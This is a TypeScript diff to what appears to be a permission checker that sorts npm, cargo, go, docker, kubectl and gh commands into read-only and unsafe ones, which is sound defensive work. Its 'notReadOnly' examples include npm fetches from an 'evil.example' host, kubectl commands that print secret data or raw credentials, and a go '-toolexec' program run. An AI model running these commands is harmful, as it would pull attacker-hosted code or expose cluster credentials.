@@ -11,6 +11,7 @@ import {
   type SteeringFile,
 } from "../command-spec.js";
 import { SECRET_VARIABLE_NAME } from "../../secret-variables.js";
+import { ghRepositoryHost, namedHost } from "../named-hosts.js";
 
 /**
  * A version query, with the exact spelling each program gives it: `bash -v` and `ruby -v` run the
@@ -66,6 +67,7 @@ const VERSION_QUERIES: [string, string[]][] = [
   ["deno", ["--version", "-V"]],
   ["bun", ["--version", "-v"]],
   ["tsc", ["--version", "-v"]],
+  ["npx", LONG],
   ["gcc", LONG],
   ["g++", LONG],
   ["clang", LONG],
@@ -127,6 +129,20 @@ const kubeSub = (name: string): ProgramSpec => ({
   options: KUBE_READ_OPTIONS,
   operands: { role: "text", check: notKubeSecret },
 });
+/** Output formats of `kubectl get` that print names and metadata only, never a secret's data. */
+const KUBE_NAME_FORMATS = new Set(["wide", "name"]);
+/** `kubectl get secrets` lists names (as `ls ~/.ssh` does); `-o yaml/json/jsonpath/go-template…` prints the data. */
+const kubeGet: ProgramSpec = {
+  ...kubeSub("get"),
+  operands: { role: "text" },
+  check: (parsed) => {
+    if (!parsed.operands.some((word) => word.value === undefined || notKubeSecret(word.value) !== undefined)) return undefined;
+    const formats = [...parsed.valuesOf("-o"), ...parsed.valuesOf("--template")];
+    return formats.every((word) => word.value !== undefined && KUBE_NAME_FORMATS.has(word.value))
+      ? undefined
+      : "kubectl prints the secrets' data in this output format";
+  },
+};
 
 const GH_OPTIONS = [
   ...valuedEach(
@@ -137,7 +153,16 @@ const GH_OPTIONS = [
 const ghGroup = (name: string, subcommands: string[]): ProgramSpec => ({
   name,
   summary: `gh ${name}`,
-  subcommands: subcommands.map((sub) => ({ name: sub, summary: `gh ${name} ${sub}`, options: GH_OPTIONS, operands: { role: "text" } })),
+  subcommands: subcommands.map((sub) => ({
+    name: sub,
+    summary: `gh ${name} ${sub}`,
+    options: GH_OPTIONS,
+    operands: { role: "text" },
+    check: (parsed) =>
+      [...parsed.valuesOf("-R"), ...parsed.valuesOf("--repo")]
+        .map((word) => (word.value === undefined ? "-R only known at run time" : ghRepositoryHost(word.value)))
+        .find(Boolean),
+  })),
 });
 
 const DOCKER_FORMAT = [
@@ -155,7 +180,15 @@ export const DEVELOPER_TOOLS = programSpecs([
     bareIsReadOnly: true,
     subcommands: [
       npmSub("list", ["ls", "ll", "la"], [valued("--depth")]),
-      { ...npmSub("view", ["info", "show", "v"]), steeredBy: NPMRC, examples: { readOnly: ["npm view react version"], notReadOnly: [] } },
+      {
+        ...npmSub("view", ["info", "show", "v"]),
+        steeredBy: NPMRC,
+        operands: { role: "text", check: (value) => namedHost(value) ?? notCredentialName(value) },
+        examples: {
+          readOnly: ["npm view react version"],
+          notReadOnly: ["npm view git+https://evil.example/x.git", "npm view https://evil.example/x.tgz", "npm view github:o/r"],
+        },
+      },
       { ...npmSub("outdated", []), steeredBy: NPMRC, examples: { readOnly: ["npm outdated --json"], notReadOnly: [] } },
       npmSub("root", []),
       npmSub("prefix", []),
@@ -205,8 +238,25 @@ export const DEVELOPER_TOOLS = programSpecs([
     style: "single-dash",
     options: [flag("--version", "-V"), flag("--list")],
     operands: { max: 0 },
+    bareIsReadOnly: true,
+    subcommands: [
+      // Reads Cargo.toml and the lock file; no build script runs (cargo book: cargo metadata, cargo tree).
+      {
+        name: "metadata",
+        summary: "cargo metadata --no-deps",
+        // A subcommand's steering files are its own: the toolchain file names the cargo that runs.
+        steeredBy: STEERING.cargo,
+        options: [...flags("--no-deps --frozen --locked --offline -q --quiet"), valued("--format-version")],
+        operands: { max: 0 },
+        check: (parsed) => (parsed.has("--no-deps") ? undefined : "cargo metadata without --no-deps resolves (and downloads) dependencies"),
+        examples: { readOnly: ["cargo metadata --no-deps --format-version 1"], notReadOnly: ["cargo metadata"] },
+      },
+    ],
     check: (parsed) => (parsed.options.length === 1 ? undefined : "only cargo --version or --list is read-only"),
-    examples: { readOnly: ["cargo --version", "cargo --list"], notReadOnly: ["cargo build", "cargo --version --list"] },
+    examples: {
+      readOnly: ["cargo --version", "cargo --list", "cargo metadata --no-deps"],
+      notReadOnly: ["cargo build", "cargo --version --list", "cargo metadata", "cargo tree"],
+    },
   },
   {
     name: "go",
@@ -220,8 +270,23 @@ export const DEVELOPER_TOOLS = programSpecs([
         forbidden: forbid("-w -u", "changes the go environment file"),
         operands: { role: "text" },
       },
+      {
+        name: "list",
+        summary: "go list -m (modules only: loading packages may run cgo and toolchain steps)",
+        options: [...flags("-m -json -e -deps -test -find -versions -retracted"), valued("-f")],
+        forbidden: [
+          ...forbid("-export -compiled -toolexec -exec -overlay -modfile -pgo", "builds packages or runs the program named"),
+          ...forbid("-u -mod", "queries or changes module versions"),
+        ],
+        operands: { role: "text" },
+        check: (parsed) => (parsed.has("-m") ? undefined : "go list without -m loads packages"),
+      },
+      { name: "doc", summary: "go doc", options: flags("-all -c -cmd -short -src -u"), operands: { role: "text" } },
     ],
-    examples: { readOnly: ["go version", "go env GOPATH"], notReadOnly: ["go env -w GOFLAGS=-x", "go run ."] },
+    examples: {
+      readOnly: ["go version", "go env GOPATH", "go list -m", "go list -m all", "go doc fmt.Println"],
+      notReadOnly: ["go env -w GOFLAGS=-x", "go run .", "go list ./...", "go list -m -toolexec ./x", "go list -m -u all"],
+    },
   },
   {
     name: "docker",
@@ -236,6 +301,12 @@ export const DEVELOPER_TOOLS = programSpecs([
       { name: "images", summary: "docker images", options: DOCKER_FORMAT, operands: { role: "text" } },
       { name: "version", summary: "docker version", options: valuedEach("-f --format"), operands: { max: 0 } },
       { name: "info", summary: "docker info", options: valuedEach("-f --format"), operands: { max: 0 } },
+      {
+        name: "stats",
+        summary: "docker stats",
+        options: [...flags("--no-stream -a --all --no-trunc"), valued("--format")],
+        operands: { role: "text" },
+      },
       {
         name: "logs",
         summary: "docker logs",
@@ -293,7 +364,7 @@ export const DEVELOPER_TOOLS = programSpecs([
       ...forbid("-k --kustomize --raw", "builds manifests or prints raw credentials"),
     ],
     subcommands: [
-      kubeSub("get"),
+      kubeGet,
       kubeSub("describe"),
       kubeSub("logs"),
       kubeSub("top"),
@@ -312,8 +383,11 @@ export const DEVELOPER_TOOLS = programSpecs([
           {
             name: "view",
             summary: "kubectl config view",
-            options: [...flags("--minify --flatten"), valued("-o", "--output")],
-            forbidden: forbid("--raw", "prints the credentials"),
+            options: [flag("--minify"), valued("-o", "--output")],
+            forbidden: [
+              ...forbid("--raw", "prints the credentials"),
+              ...forbid("--flatten", "inlines the certificate and key files a kubeconfig names"),
+            ],
           },
           {
             name: "get-contexts",
@@ -326,10 +400,11 @@ export const DEVELOPER_TOOLS = programSpecs([
       },
     ],
     examples: {
-      readOnly: ["kubectl get pods -n web", "kubectl logs web-1 --tail 20"],
+      readOnly: ["kubectl get pods -n web", "kubectl logs web-1 --tail 20", "kubectl get secrets", "kubectl get secrets -o wide"],
       notReadOnly: [
         "kubectl get secret db -o yaml",
-        "kubectl get secrets",
+        "kubectl get secrets -o jsonpath={.items[0].data}",
+        "kubectl get secrets.v1 -o json",
         "kubectl --token=x get pods",
         "kubectl delete pod x",
         "kubectl config view --raw",
